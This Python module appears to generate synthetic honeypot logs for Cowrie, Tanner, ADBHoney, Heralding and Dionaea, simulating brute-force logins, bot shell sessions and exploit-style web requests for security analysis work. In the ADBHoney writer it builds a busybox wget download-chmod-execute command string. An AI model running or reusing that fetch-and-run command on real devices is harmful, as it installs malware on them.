"""Visits as native logs of honeypots: Cowrie, Tanner, ADBHoney, Heralding, Dionaea. Times are those of their clocks.

``cowrie.json`` and ``tanner_report.json`` hold the field sets of the shared scenario; the others those of T-Pot 24.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator, Sequence
from datetime import UTC, datetime
from ipaddress import IPv4Address
from pathlib import Path
from typing import Any, Final

from andon.records.contract import SECOND

from . import catalogue as c
from . import shell
from .families import Family
from .scenario import Scenario
from .visits import BOT, LOADER, OTHER, SURVEY, Visit

Line = tuple[int, dict[str, Any]]
FILES: Final = {
    c.COWRIE_TELNET: "cowrie.json", c.COWRIE_SSH: "cowrie.json", c.TANNER: "tanner_report.json",
    c.ADBHONEY: "adbhoney.json", c.HERALDING: "log_session.json", c.DIONAEA: "dionaea.json",
}  # fmt: skip
_HASSH: Final = (
    "92674389fa1e47a27ddd8d9b63ecd42b",
    "b12d2871a1189eff20364cf5333619ee",
    "51cba57125523ce4b9db67714a90bf6e",
)


def write_logs(scenario: Scenario, visits: Sequence[Visit], out: Path) -> list[str]:
    """Write the logs there is something for; gives the session id of every visit."""
    draw = random.Random(f"{scenario.seed} logs")
    lines: dict[str, list[Line]] = {}
    ids = []
    for visit in visits:
        shown = _WRITE[visit.service]
        number = f"{draw.getrandbits(64):016x}"
        session, made = shown(visit, visit.at + scenario.log_shift, number, draw)
        ids.append(session)
        lines.setdefault(FILES[visit.service], []).extend(made)
    for name, rows in sorted(lines.items()):
        rows.sort(key=lambda row: row[0])
        with (out / name).open("w", encoding="utf-8") as file:
            file.writelines(
                json.dumps(row, ensure_ascii=False, separators=(",", ":") if name == "cowrie.json" else None)
                + "\n"
                for _, row in rows
            )
    return ids


def iso(ns: int, end: str = "Z") -> str:
    """ISO 8601 with microseconds.

    >>> iso(1_772_323_200_000_001_000)
    '2026-03-01T00:00:00.000001Z'
    """
    seconds, rest = divmod(ns, SECOND)
    return f"{datetime.fromtimestamp(seconds, UTC):%Y-%m-%dT%H:%M:%S}.{rest // 1000:06d}{end}"


def _pauses(draw: random.Random, at: int) -> Iterator[int]:
    while True:
        at += int(draw.uniform(0.1, 1.2) * SECOND)
        yield at


def _cowrie(visit: Visit, at: int, number: str, draw: random.Random) -> tuple[str, list[Line]]:
    ssh = visit.service == c.COWRIE_SSH
    session = number[:12]
    sensor, dst = f"hp-{visit.sensor + 1:02d}", f"192.0.2.{10 + visit.sensor}"
    src = str(IPv4Address(visit.src))
    port = (22 if draw.random() < 0.8 else 2222) if ssh else (23 if draw.random() < 0.75 else 2323)
    own = draw.randrange(1024, 65536)
    tail = {"sensor": sensor, "src_ip": src, "session": session}
    protocol = "ssh" if ssh else "telnet"
    rows: list[Line] = []

    def add(when: int, event: str, members: dict[str, Any], message: str) -> None:
        body = {"eventid": f"cowrie.{event}", **members, "message": message, "timestamp": iso(when), **tail}
        rows.append((when, body))

    add(
        at, "session.connect",
        {"src_port": own, "dst_ip": dst, "dst_port": port, "protocol": protocol},
        f"New connection: {src}:{own} ({dst}:{port}) [session: {session}]",
    )  # fmt: skip
    clock = _pauses(draw, at)
    if ssh and visit.role != SURVEY:
        style = (visit.plays.number if visit.plays else 7) % 3
        client = ("SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-libssh2_1.10.0")[style]
        when = next(clock)
        add(when, "client.version", {"version": client}, f"Remote SSH version: {client}")
        add(when, "client.kex", {"hassh": _HASSH[style]}, f"SSH client hassh fingerprint: {_HASSH[style]}")
    for pair, good in _tries(visit, draw):
        user, word = pair
        what = "success" if good else "failed"
        add(
            next(clock), f"login.{what}", {"username": user, "password": word},
            f"login attempt [{user}/{word}] {'succeeded' if good else 'failed'}",
        )  # fmt: skip
    commands, download = _typed(visit, draw)
    when = next(clock)
    for command in commands:
        when = next(clock)
        add(when, "command.input", {"input": command}, f"CMD: {command}")
    if download is not None:
        url, digest = download
        outfile = f"var/lib/cowrie/downloads/{digest}"
        add(
            when, "session.file_download", {"url": url, "outfile": outfile, "shasum": digest},
            f"Downloaded URL ({url}) with SHA-256 {digest} to {outfile}",
        )  # fmt: skip
    end = next(clock)
    lasted = (end - at) / SECOND
    add(end, "session.closed", {"duration": f"{lasted:.1f}"}, f"Connection lost after {int(lasted)} seconds")
    return session, rows


def _tries(visit: Visit, draw: random.Random) -> list[tuple[tuple[str, str], bool]]:
    if visit.role == SURVEY:
        return []
    if visit.role == LOADER and visit.login:
        return [(visit.login, True)]
    tried: list[tuple[tuple[str, str], bool]] = []
    if visit.role == BOT and visit.plays:
        tried = [(pair, False) for pair in draw.sample(visit.plays.creds, draw.randrange(1, 4))]
    elif visit.role == OTHER:
        pair = (draw.choice(c.COMMON_USERS), draw.choice(c.COMMON_PASSWORDS))
        tried = [(pair, False)] * draw.randrange(1, 4)
    if visit.login is not None:
        tried = [(pair, good) for pair, good in tried if pair != visit.login] + [(visit.login, True)]
    return tried


def _typed(visit: Visit, draw: random.Random) -> tuple[list[str], shell.Download | None]:
    if visit.login is None:
        return [], None
    if visit.role == LOADER and visit.plays:
        return shell.loader(visit.plays, str(IPv4Address(visit.src)), draw)
    if visit.role == BOT and visit.plays:
        return shell.bot(visit.plays, draw), None
    return shell.person(visit.plays, draw), None


def _tanner(visit: Visit, at: int, number: str, draw: random.Random) -> tuple[str, list[Line]]:
    method, path, body = _request(visit.plays if visit.role == BOT else None, draw)
    return number, [
        (
            at,
            {
                "method": method,
                "path": path,
                "headers": {"host": f"192.0.2.{11 + 10 * visit.sensor}", "user-agent": draw.choice(c.AGENTS)},
                "uuid": number,
                "peer": {"ip": str(IPv4Address(visit.src)), "port": draw.randrange(1024, 65536)},
                "status": 200,
                "cookies": {"sess_uuid": None},
                "post_data": body,
                "timestamp": iso(at),
            },
        )
    ]


def _request(family: Family | None, draw: random.Random) -> tuple[str, str, str]:
    if family is None or family.exploit is None:
        return (
            "GET",
            draw.choice(("/", "/", "/favicon.ico", "/robots.txt", "/login.html", "/.env", "/admin/")),
            "",
        )
    exploit = family.exploit
    load = family.url(draw.choice(family.loaders), "mips")
    return exploit.method, exploit.path.replace("{load}", load), exploit.body.replace("{load}", load)


def _adbhoney(visit: Visit, at: int, number: str, draw: random.Random) -> tuple[str, list[Line]]:
    session = number[:12]
    src = str(IPv4Address(visit.src))
    own, sensor = draw.randrange(1024, 65536), f"adb-{visit.sensor + 1:02d}"
    end = at + int(draw.uniform(1, 9) * SECOND)
    both = {"session": session, "src_ip": src, "sensor": sensor}
    rows: list[Line] = [
        (at, {"eventid": "adbhoney.session.connect", "timestamp": iso(at), "unixtime": at // SECOND, **both,
              "src_port": own, "dst_ip": f"192.0.2.{10 + visit.sensor}", "dst_port": 5555})
    ]  # fmt: skip
    if visit.plays is not None:
        number_of = draw.randrange(len(c.ARCHITECTURES))
        url = visit.plays.url(draw.choice(visit.plays.loaders), c.ARCHITECTURES[number_of])
        command = (
            f"cd /data/local/tmp; busybox wget {url} -O .x; chmod 777 .x; ./.x; busybox {visit.plays.token}"
        )
        rows.append((at + SECOND // 2, {"eventid": "adbhoney.command.input", "timestamp": iso(at + SECOND // 2),
                                        **both, "input": command}))  # fmt: skip
        if draw.random() < 0.5:
            digest = visit.plays.payloads[number_of]
            rows.append((at + SECOND, {"eventid": "adbhoney.session.file_upload", "timestamp": iso(at + SECOND), **both,
                                       "shasum": digest, "outfile": f"dl/{digest}.raw"}))  # fmt: skip
    rows.append((end, {"eventid": "adbhoney.session.closed", "timestamp": iso(end), **both,
                       "duration": f"{(end - at) / SECOND:.1f}"}))  # fmt: skip
    return session, rows


def _heralding(visit: Visit, at: int, number: str, draw: random.Random) -> tuple[str, list[Line]]:
    session = f"{number[:8]}-{number[8:12]}-4{number[12:15]}-a000-{number[4:16]}"
    family = visit.plays
    pairs = (
        draw.sample(family.creds, 2)
        if family
        else [(draw.choice(c.COMMON_USERS), draw.choice(c.COMMON_PASSWORDS))]
    )
    clock = iso(at, "").replace("T", " ")
    return session, [
        (
            at,
            {
                "timestamp": clock,
                "duration": draw.randrange(1, 9),
                "session_id": session,
                "source_ip": str(IPv4Address(visit.src)),
                "source_port": draw.randrange(1024, 65536),
                "destination_ip": f"192.0.2.{12 + 10 * visit.sensor}",
                "destination_port": 5900,
                "protocol": "vnc",
                "num_auth_attempts": len(pairs),
                "auth_attempts": [{"timestamp": clock, "username": u, "password": p} for u, p in pairs],
                "session_ended": True,
                "auxiliary_data": {},
            },
        )
    ]


def _dionaea(visit: Visit, at: int, number: str, draw: random.Random) -> tuple[str, list[Line]]:
    row: dict[str, Any] = {
        "connection": {"protocol": "mqttd", "transport": "tcp", "type": "accept"},
        "dst_ip": "172.18.0.2",
        "dst_port": 1883,
        "src_hostname": "",
        "src_ip": str(IPv4Address(visit.src)),
        "src_port": draw.randrange(1024, 65536),
        "timestamp": iso(at, ""),
    }
    if visit.plays is not None:
        pairs = draw.sample(visit.plays.creds, 1)
        row["credentials"] = {"password": [p for _, p in pairs], "username": [u for u, _ in pairs]}
    # Dionaea gives its connections no number.
    return f"dionaea {row['src_ip']}:{row['src_port']} {row['timestamp']}", [(at, row)]


_WRITE: Final[dict[str, Callable[[Visit, int, str, random.Random], tuple[str, list[Line]]]]] = {
    c.COWRIE_TELNET: _cowrie, c.COWRIE_SSH: _cowrie, c.TANNER: _tanner, c.ADBHONEY: _adbhoney,
    c.HERALDING: _heralding, c.DIONAEA: _dionaea,
}  # fmt: skip
